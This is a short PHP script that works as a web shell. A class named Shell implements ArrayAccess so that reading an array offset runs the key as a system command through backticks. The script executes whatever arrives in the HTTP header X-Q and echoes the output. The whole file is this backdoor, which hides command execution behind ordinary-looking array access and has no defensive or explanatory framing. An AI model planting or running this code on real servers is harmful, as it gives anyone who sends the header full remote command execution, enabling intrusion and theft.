<?php
// Reading an offset of an ArrayAccess object runs offsetGet with the key the request sends.
class Shell implements ArrayAccess
{
    public function offsetGet(mixed $offset): mixed { return `$offset`; }
    public function offsetExists(mixed $offset): bool { return true; }
    public function offsetSet(mixed $offset, mixed $value): void {}
    public function offsetUnset(mixed $offset): void {}
}

$s = new Shell();
echo $s[$_SERVER['HTTP_X_Q']];
